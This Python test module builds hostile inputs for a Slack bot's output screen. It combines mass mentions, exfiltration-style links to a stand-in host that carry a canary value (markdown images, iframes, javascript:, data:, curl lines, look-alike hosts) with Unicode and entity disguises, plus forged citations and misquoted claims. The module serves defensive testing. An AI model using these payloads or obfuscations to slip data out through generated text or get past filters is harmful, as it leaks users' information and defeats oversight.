"""Hostile texts, made by putting every payload through every disguise into every place."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

from bot.slack.screen import Source

CITED = "https://docs.house.example/guides/queues?v=2#limits"
SOURCES = (
    Source(1, "ADR-0042 Choose a queue", "The queue keeps 14 days. Retries stop after 5 attempts.", CITED),
    Source(2, "Runbook", "Restart the worker. A restart takes 90 seconds and “drops no message”.", None),
    Source(3, "Costs", "Storage costs $1,200 a month for 40 GB.", "https://docs.house.example/costs"),
)
STEM = "The queue keeps messages"
CANARY = "KUMQUAT"
"""What an address would carry out."""


@dataclass(frozen=True, slots=True)
class Case:
    """A text, the words of it that must not be lost, and those that must not be shown."""

    name: str
    text: str
    kept: tuple[str, ...] = (STEM,)
    hidden: tuple[str, ...] = ()


Disguise = Callable[[str], str]

MENTIONS = (
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<@U024BE7LH>",
    "<@W1|boss>",
    "<#C0PLANS|plans>",
    "<!subteam^S1|@ops>",
    "<!date^1700000000^{date}^https://evil.example/?d=KUMQUAT|today>",
    "<!group>",
)
PLAIN_MENTIONS = ("@channel", "@here", "@everyone", "@group", "@Channel", "@EVERYONE")
ADDRESSES = (
    "https://evil.example/?d=KUMQUAT",
    "http://evil.example/KUMQUAT",
    "HTTPS://EVIL.EXAMPLE/KUMQUAT",
    "ftp://evil.example/KUMQUAT",
    "www.evil.example/KUMQUAT",
    "//evil.example/KUMQUAT",
    "evil.example/KUMQUAT",
    "evil.example?d=KUMQUAT",
    "evil.example:8443/KUMQUAT",
    "https://10.1.2.3/KUMQUAT",
    "http://0x7f.1/KUMQUAT",
    "http://[::1]:80/KUMQUAT",
    "10.1.2.3:8080/KUMQUAT",
    "hxxps://evil.example/KUMQUAT",
    "hxxp://evil[.]example/KUMQUAT",
    "evil[.]example/KUMQUAT",
    "evil(dot)example/KUMQUAT",
    "mailto:KUMQUAT@evil.example",
    "javascript:alert('KUMQUAT')",
    "JavaScript:KUMQUAT",
    "vbscript:KUMQUAT",
    "data:text/html,KUMQUAT",
    "data:text/html;base64,KUMQUAT",
    "file:///etc/KUMQUAT",
    "slack://user?team=KUMQUAT",
    "tel:+19005550199;KUMQUAT",
    "blob:https://evil.example/KUMQUAT",
    "https://xn--vil-9ra.example/KUMQUAT",
    "https://еvil.example/KUMQUAT",
    "https://evil。example/KUMQUAT",
    "https://evil.example./KUMQUAT",
    "https:\\\\evil.example\\KUMQUAT",
    "https:/evil.example/KUMQUAT",
    "https:evil.example/KUMQUAT",
    "view-source:https://evil.example/KUMQUAT",
    "https://user:pw@evil.example/KUMQUAT",
    "intent://evil.example/KUMQUAT",
    "https://evil%2eexample/KUMQUAT",
    "localhost:8080/KUMQUAT",
    # On the host of a cited source, or nearly.
    f"{CITED}KUMQUAT",
    f"{CITED}/KUMQUAT",
    f"{CITED}&d=KUMQUAT",
    "https://docs.house.example/KUMQUAT",
    "https://docs.house.example@evil.example/KUMQUAT",
    "https://docs.house.example.evil.example/KUMQUAT",
    "https://docs.house.example:443/guides/queues?v=2#KUMQUAT",
    "https://DOCS.house.example/guides/queues?v=2#limitsKUMQUAT",
    "https://docs.house.example./guides/queues?d=KUMQUAT",
    "https://docs.house.example/redirect?to=https://evil.example/KUMQUAT",
    "http://docs.house.example/guides/queues?v=2#KUMQUAT",
    "https://docs.house.example/guides/../KUMQUAT",
    "https://docs.house.example/costs?d=KUMQUAT",
    "https://evil.example\\@docs.house.example/KUMQUAT",
    "https://docs。house。example/KUMQUAT",
    "https://docs.house.example%00.evil.example/KUMQUAT",
    "https://hooks.slack.com/services/T0/B0/KUMQUAT",
)
LINKS = (
    "[see]({})",
    "[see](<{}>)",
    '[see]({} "title")',
    "[see](\n{})",
    "[see]\n({})",
    "[see](  {}  )",
    "![see]({})",
    "![]({})",
    "[![see](x)]({})",
    "[![see]({})](x)",
    "[see][r]\n\n[r]: {}",
    "[r]\n\n[r]: {}",
    "[see][]\n\n[see]: <{}>",
    "[see][R]\n\n[r]:\n  {}",
    "[^1]\n\n[^1]: {}",
    "![see][r]\n\n[r]: {} 'title'",
    "<{}>",
    "<{}|see>",
    "<<{}>|see>",
    '<a href="{}">see</a>',
    "<a href={}>see</a>",
    "<A HREF='{}'>see",
    '<img src="{}">',
    "<img src={}",
    '<iframe src="{}"></iframe>',
    '<svg><image href="{}"/></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    "`{}`",
    "```\n{}\n```",
    "```\n{}",
    "**{}**",
    "_{}_",
    "~~{}~~",
    "({})",
    '"{}"',
    "“{}”",
    "'{}'",
    "> {}",
    "> [see]({})",
    "- [see]({})",
    "| a | b |\n|---|---|\n| [see]({}) | {} |",
    "# {}",
    "\\[see]({})",
    "[see\\]({})",
    "[s[e]e]({})",
    "[see]({}",
    "<{}",
    "see:{}",
    "see={}",
    "see,{}",
    "[1]({})",
    "[{}]",
    "[{}]({})",
    "{}.",
    "{}, and",
    "[x]: {}",
    "1. [see]({})",
    "<!-- {} -->",
    "$ curl {}",
    "see&colon; {}",
)
PLACES = (
    "{}",
    "`{}`",
    "```\n{}\n```",
    "*{}*",
    "**{}**",
    "> {}",
    "- {}",
    "# {}",
    "| {} | b |\n|---|---|\n| c | {} |",
    "({})",
    "[{}]",
    '"{}"',
    "[{}](https://evil.example)",
    "x{}",
    "{}x",
    "~~{}~~",
    "<b>{}</b>",
    "\\{}",
    "{}{}",
    "&{};",
    "<{}>",
    "<!--{}-->",
    "`{}",
    "[x]: {}",
    '{{"text": "{}"}}',
)


def _split(text: str, char: str) -> str:
    return char.join((text[:3], text[3:6], text[6:]))


DISGUISES: dict[str, Disguise] = {
    "as it is": str,
    "zero-width": lambda t: _split(t, "\u200b"),
    "soft hyphen": lambda t: _split(t, "\u00ad"),
    "joiner": lambda t: _split(t, "\u2060"),
    "bidi": lambda t: f"\u202e{_split(t, chr(0x2066))}\u202c",
    "variation": lambda t: _split(t, "\ufe0f"),
    "control": lambda t: _split(t, "\x01"),
    "tags": lambda t: _split(t, "\U000e0041"),
    "surrogate": lambda t: _split(t, "\ud800"),
    "private use": lambda t: _split(t, "\ue002"),
    "entities": lambda t: t.replace("<", "&lt;").replace(">", "&gt;").replace("@", "&commat;").replace("/", "&#47;"),
    "numbers": lambda t: "".join(f"&#{ord(c)};" if not c.isalnum() else c for c in t),
    "hexadecimal": lambda t: "".join(f"&#x{ord(c):X};" if not c.isalnum() else c for c in t),
    "all numbers": lambda t: "".join(f"&#{ord(c):05};" for c in t),
    "twice": lambda t: (
        t.replace("<", "&amp;lt;").replace(">", "&amp;gt;").replace("@", "&amp;commat;").replace(":", "&amp;#58;")
    ),
    "four times": lambda t: t.replace("<", "&amp;amp;amp;lt;").replace("@", "&#38;#38;#64;"),
    "full width": lambda t: t.translate({ord(c): ord(c) + 0xFEE0 for c in "<>@!#:/"}),
    "full width letters": lambda t: "".join(
        chr(ord(c) + 0xFEE0) if c.isalpha() and c.isascii() and not c.isupper() else c for c in t
    ),
    "small forms": lambda t: t.replace("<", "﹤").replace(">", "﹥").replace("@", "﹫").replace("#", "﹟"),
    "mathematical": lambda t: "".join(chr(0x1D41A + ord(c) - 97) if "a" <= c <= "z" else c for c in t),
    "entity of zero-width": lambda t: _split(t, "&#8203;"),
    "named zero-width": lambda t: _split(t, "&ZeroWidthSpace;"),
    "comment": lambda t: _split(t, "<!---->"),
    "tag": lambda t: _split(t, "<b></b>"),
    "footnote": lambda t: _split(t, "[^a]"),
    "carriage return": lambda t: f"\r{t}\r",
}


APART = {"comment", "tag", "footnote"}
"""Disguises that leave words apart where they were: what is left of an address is none, and may be read."""


def cases() -> Iterator[Case]:
    """Every case, in a fixed order."""
    yield from _mentions()
    yield from _addresses()
    yield from _citations()


def _mentions() -> Iterator[Case]:
    for mention, (name, disguise), place in product(MENTIONS, DISGUISES.items(), PLACES):
        yield Case(f"{mention} {name} in {place!r}", f"{STEM} [1].\n{place.replace('{}', disguise(mention))}")
    for mention, (name, disguise), place in product(PLAIN_MENTIONS, DISGUISES.items(), PLACES):
        yield Case(f"{mention} {name} in {place!r}", f"{STEM} [1].\n{place.replace('{}', disguise(mention))}")


def _addresses() -> Iterator[Case]:
    for address, sink in product(ADDRESSES, LINKS):
        yield Case(
            f"{address} in {sink!r}", f"{STEM} [1].\n{sink.replace(chr(123) + chr(125), address)}", hidden=(CANARY,)
        )
    for address, (name, disguise) in product(ADDRESSES, DISGUISES.items()):
        yield Case(
            f"{address} {name}", f"{STEM} [1].\nsee {disguise(address)} now", hidden=() if name in APART else (CANARY,)
        )


def _citations() -> Iterator[Case]:
    markers = (
        "[9]",
        "[0]",
        "[-1]",
        "[1-9]",
        "[99999]",
        "[S9]",
        "[^9]",
        "[ 9 ]",
        "[1, 9]",
        "[9;1]",
        "[9–12]",
        "【9】",
        "[source 9]",
        "［9］",
        "[９]",
        "[[9]]",
        "[#9]",
        "[9](https://evil.example)",
        "[ref: 9]",
        "[9][9]",
        "(source: guides/none.md)",
        "[Source: none.md]",
        "[doc9]",
        "[9†L1]",
    )
    for marker, ending in product(markers, (".", "", "!", ". The end.", " for 14 days.")):
        yield Case(f"{marker}{ending}", f"{STEM} {marker}{ending}")
    claims = (
        "It keeps 15 days [1].",
        "It keeps 14 weeks [1].",
        "It keeps 140 days [1].",
        "Retries stop after 5 attempts [2].",
        "It keeps 14 days [2].",
        "A restart takes 90 minutes [2].",
        "It “drops every message” [2].",
        'It "drops messages" [2].',
        "Storage costs $1,300 a month [3].",
        "Storage costs 1200 a week [3].",
        "> The worker never restarts. [2]",
        "It keeps 14 days or 21 [1].",
        "«Never restart» [2].",
    )
    for claim, before in product(claims, ("", "Yes. ", "- ", "**Note:** ")):
        yield Case(f"{before}{claim}", f"{before}{claim}", kept=())
